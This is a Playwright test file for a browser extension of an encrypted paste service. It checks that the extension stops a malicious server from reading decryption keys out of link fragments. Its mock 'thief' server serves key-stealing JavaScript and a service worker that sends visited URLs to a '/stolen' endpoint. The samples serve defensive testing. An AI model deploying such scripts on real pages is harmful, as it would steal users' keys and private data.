/**
 * Tests the extension in a whole Chromium, since the headless shell has none: a server that would steal keys gets none, and the
 * pages of the extension do what those of a server do.
 */
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { answerMessages } from '#components/messages/answer';
import { extensionMessages as messages } from '#components/messages/extension';
import { passwordMessages } from '#components/messages/password';
import { sendMessages } from '#components/messages/send';
import { viewCoveredMessages } from '#components/messages/view-covered';
import { viewMailedMessages as mailedMessages } from '#components/messages/view-mailed';
import { createRequestKeys, thumbprintOf } from '#lib/envelope/answer-keys';
import { sealPaste } from '#lib/envelope/envelope-seal';
import { startMailServer } from '#lib/testing/mail-server';
import { call, createPaste } from '../support/api';
import { createAccount } from '../support/browser-accounts';
import { expect, test, withWeb } from '../support/browser-fixture';
import { addServer, backgroundOf, WHOLE_CHROMIUM, withExtension } from '../support/extension';
import buildExtension from '../support/extension.setup';
import { createButton, createdLinks, openButton, renderHoweverLong, textArea, textOf } from '../support/paste-pages';
import { startWorker } from '../support/processes';
import { createSealed } from '../support/sealed';

const { version } = JSON.parse(readFileSync('package.json', 'utf8')) as { version: string };

test.describe.configure({ mode: 'default' });
test.skip(process.env.CI !== 'true' && !existsSync(WHOLE_CHROMIUM), `needs ${WHOLE_CHROMIUM}`);
test.beforeAll(() => buildExtension());

/** A server whose pages send the part of their address after # back to it. All else comes from the service. */
async function withThief(service: string, use: (address: string, got: () => string) => Promise<void>): Promise<void> {
  let got = '';
  const server = createServer(async ({ url = '', method = 'GET', headers, rawHeaders }, response) => {
    got += [method, url, ...rawHeaders].join(' ');
    if (/^\/(?:view|request)\/\w+\/data$|^\/(?:api|raw)\//.test(url)) {
      const { accept = '*/*' } = headers;
      const answer = await fetch(`${service}${url}`, { method, headers: { accept } });
      return void response.writeHead(answer.status, { 'Content-Type': answer.headers.get('Content-Type') ?? '' }).end(await answer.text());
    }
    // Its service worker would see links, and answer them, before the browser asks anybody.
    if (url.endsWith('.js')) {
      const worker = `onfetch = ({ request: { url, mode } }) => mode === 'navigate' && fetch('/stolen?' + encodeURIComponent(url))`;
      return void response.writeHead(200, { 'Content-Type': 'text/javascript', 'Service-Worker-Allowed': '/' }).end(worker);
    }
    if (url === '/') {
      const register = `const paths = ['/worker.js', '/_next/worker.js', '/share/worker.js'];
        void Promise.allSettled(paths.map((path) => navigator.serviceWorker.register(path, { scope: '/' }).then(() => navigator.serviceWorker.ready)))
          .then((all) => { document.title = all.map(({ status }) => status).join(' '); })`;
      return void response
        .writeHead(200, { 'Content-Type': 'text/html' })
        .end(`<link rel="icon" href="data:,"><script>${register}</script>`);
    }
    const script = '<script>void fetch("/stolen?" + location.hash.slice(1)).then(() => (document.title = "done"))</script>';
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<link rel="icon" href="data:,">${script}`);
  }).listen(0, '127.0.0.1');
  await new Promise((listening) => server.once('listening', listening));
  try {
    await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, () => got);
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

test('the package names what it contains, which is no Next', () => {
  const notices = readFileSync('dist/extension/chromium/licenses.txt', 'utf8');
  expect(notices).toMatch(/(?:^|, )react-dom \d/m);
  expect(notices).not.toMatch(/(?:^|, )next \d/m);
});

test('a server that steals keys gets a bare browser’s, and none with the extension', async ({ web, page }) => {
  const { publicId, key, path } = await createSealed(web.url, { content: 'not for the server' });
  await withThief(web.url, async (address, got) => {
    const links = [`${address}${path}`, `${address}/${publicId}#${key}`];
    for (const link of links) {
      await page.goto(link);
      await expect(page).toHaveTitle('done');
    }
    expect(got().split(`/stolen?${key}`)).toHaveLength(1 + links.length);
    const before = got().length;
    await withExtension(async (context) => {
      const home = await context.newPage();
      await home.goto(address);
      await expect(home).toHaveTitle('fulfilled fulfilled fulfilled');
      await home.close();
      await addServer(context, address);
      const again = await context.newPage();
      await again.goto(address);
      await expect(again).toHaveTitle('rejected rejected rejected');
      for (const link of links) {
        const tab = await context.newPage();
        await tab.goto(link).catch(() => undefined);
        await expect(textOf(tab)).toHaveText('not for the server');
        await tab.close();
      }
    });
    expect(got().slice(before)).toContain(`/view/${publicId}/data`);
    expect(got().slice(before)).not.toContain(key);
  });
});

test('the extension creates, reads, burns, answers and shares as a server’s pages do', async ({ web }) => {
  await withExtension(async (context) => {
    const extension = await addServer(context, web.url);
    const page = await context.newPage();
    const open = async (link: string): Promise<Page> => {
      // The redirect ends the navigation to the link.
      await page.goto(link).catch(() => undefined);
      await expect(page.getByText(messages.opened({ version, address: web.url }))).toBeVisible();
      return page;
    };

    await page.goto(`${extension}/page.html?at=${encodeURIComponent(web.url)}/`);
    await textArea(page).fill('const made = "by the extension";');
    await createButton(page).click();
    const { link, key } = await createdLinks(page);
    expect(link).toBe(`${web.url}/view/${link.slice(-68)}`);
    expect(key).toHaveLength(43);
    await expect(textOf(await open(link))).toHaveText('const made = "by the extension";');
    expect(page.url()).toMatch(new RegExp(`^${extension}/page\\.html\\?at=.*#${key}$`));

    const secret = { password: 'correct horse', fields: { burnAfterRead: true } };
    const burning = await createSealed(web.url, { content: 'only once', syntax: 'log' }, secret);
    await openButton(await open(`${web.url}${burning.path}`)).click();
    await page.getByLabel(passwordMessages.label, { exact: true }).fill(secret.password);
    await page.keyboard.press('Enter');
    await expect(textOf(page)).toHaveText('only once');
    expect((await fetch(`${web.url}/raw/${burning.publicId}`)).status).toBe(404);

    // The worker that renders it has the sentences, too.
    const table = await createSealed(web.url, { content: '| a | b |\n|---|---|\n| c | d |\n', syntax: 'markdown' });
    await renderHoweverLong(page);
    await expect((await open(`${web.url}${table.path}`)).getByRole('cell', { name: 'd' })).toBeVisible();

    const { publicKey } = await createRequestKeys();
    const json = { publicKey, ttlSeconds: 3_600 };
    const { body: request } = await call<{ url: string }>(`${web.url}/api/v1/requests`, { json });
    await open(`${request.url}#${await thumbprintOf(publicKey)}`);
    await page.getByRole('textbox', { name: answerMessages.field }).fill('for the asker');
    await page.getByRole('button', { name: answerMessages.send }).click();
    await expect(page.getByRole('heading', { name: answerMessages.sentTitle, exact: true })).toBeVisible();

    await page.goto(`${web.url}/docs/how`);
    await page.evaluate(() => getSelection()?.selectAllChildren(document.body));
    const background = await backgroundOf(context);
    /** Tells the extension what was chosen in its menu, as the browser does. */
    const choose = async (chosen: Record<string, string>): Promise<Page> => {
      const opened = context.waitForEvent('page');
      const tell = `([tab]) => chrome.contextMenus.onClicked.dispatch(${JSON.stringify(chosen)}, tab)`;
      await background.evaluate(`chrome.tabs.query({ url: 'http://127.0.0.1/*' }).then(${tell})`);
      return opened;
    };
    // The browser gives a selection without line breaks; its page has them.
    await expect(textArea(await choose({ selectionText: 'How it works' }))).toHaveValue(/.\n+./);
    await expect(textArea(await choose({ linkUrl: 'https://example.org/?a#b' }))).toHaveValue('https://example.org/?a#b');
    const picture = await choose({ mediaType: 'image', srcUrl: `${web.url}/icon.svg` });
    await expect(picture.getByText('icon.svg').first()).toBeVisible();
  });
});

test('a code brings a text from one page of the extension to another', { tag: '@prove' }, async ({ web }) => {
  await withExtension(async (context) => {
    const extension = await addServer(context, web.url);
    const [receiver, sender] = [await context.newPage(), await context.newPage()];
    await receiver.goto(`${web.url}/receive`).catch(() => undefined);
    const code = receiver.getByText(/^[0-9A-Z]{4}-[0-9A-Z]{4}$/);
    await expect(code).toBeVisible();
    await expect(receiver.getByText(`${web.url}/send`)).toBeVisible();
    await sender.goto(`${web.url}/send`).catch(() => undefined);
    await sender.getByRole('textbox', { name: sendMessages.code }).fill(String(await code.textContent()));
    await sender.getByRole('textbox', { name: answerMessages.field }).fill('a blue lizard');
    await sender.keyboard.press('Control+Enter');
    await expect(sender.getByRole('heading', { name: answerMessages.sentTitle, exact: true })).toBeVisible();
    await receiver.getByRole('button', { name: viewCoveredMessages.show, exact: true }).click();
    await expect(receiver.getByText('a blue lizard')).toBeVisible();
    for (const page of [receiver, sender]) expect(page.url()).toContain(`${extension}/page.html?at=`);
  });
});

test('a key in the settings reads on a server where only users read', { tag: '@prove' }, async ({ noise: _ }) => {
  const lines = Array.from({ length: 10_000 }, () => randomBytes(32).toString('hex'));
  await withWeb({ ANONYMOUS_READ: 'off' }, async ({ url }) => {
    const burning = await createSealed(url, { content: 'for one colleague', syntax: 'log' }, { fields: { burnAfterRead: true } });
    // A worker fetches it.
    const large = await createSealed(url, { content: lines.join('\n') });
    await withExtension(async (context) => {
      await addServer(context, url, (await createAccount(url)).key);
      const page = await context.newPage();
      await page.goto(`${url}${burning.path}`).catch(() => undefined);
      await openButton(page).click();
      await expect(textOf(page)).toHaveText('for one colleague');
      await page.goto(`${url}${large.path}`).catch(() => undefined);
      await expect(page.getByText(lines[0] ?? '')).toBeVisible();
    });
  });
});

test('a code from a mail opens a paste for one mailbox', { tag: '@prove' }, async () => {
  const mail = await startMailServer();
  const sending = { SMTP_URL: `smtp://127.0.0.1:${mail.port}?tls=off`, MAIL_FROM: 'paste@example.org', WORKER_POLL_INTERVAL_MS: '250' };
  await withWeb(sending, async (web) => {
    const worker = await startWorker(web.environment);
    const { envelope, key } = await sealPaste({ content: 'for one mailbox', syntax: 'log' });
    const paste = { content: envelope, isE2ee: true, burnAfterRead: true, recipient: 'carla@example.org' };
    const { publicId } = await createPaste(web.url, paste, { 'X-Api-Key': (await createAccount(web.url)).key });
    await withExtension(async (context) => {
      await addServer(context, web.url);
      const page = await context.newPage();
      await page.goto(`${web.url}/view/${publicId}#${key}`).catch(() => undefined);
      await page.getByRole('button', { name: mailedMessages.ask }).click();
      await expect.poll(() => mail.taken.length).toBe(1);
      await page.getByLabel(mailedMessages.label).fill(mail.taken[0]?.parts['text/plain']?.slice(0, 6) ?? '');
      await page.getByRole('button', { name: mailedMessages.open }).click();
      await expect(textOf(page)).toHaveText('for one mailbox');
    });
    await worker.kill();
  });
  await mail.stop();
});
